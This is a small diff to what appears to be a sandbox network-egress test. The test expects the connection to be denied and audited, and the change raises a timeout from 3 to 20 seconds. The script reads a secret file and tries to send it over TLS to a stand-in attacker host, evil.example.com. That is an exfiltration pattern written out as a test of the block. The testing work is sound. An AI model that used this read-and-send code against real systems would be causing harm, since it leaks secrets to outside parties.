@@ -2,7 +2,7 @@
 # expect-phase: succeeded   expect-audit: egress_denied host=evil.example.com port=443 proto=tcp
 import socket, ssl
 secret = open("/work/secret").read()
-raw = socket.create_connection(("evil.example.com", 443), 3)
+raw = socket.create_connection(("evil.example.com", 443), 20)
 try:
     ssl.create_default_context().wrap_socket(raw, server_hostname="evil.example.com").sendall(secret.encode())
     raise SystemExit("a handshake came about")
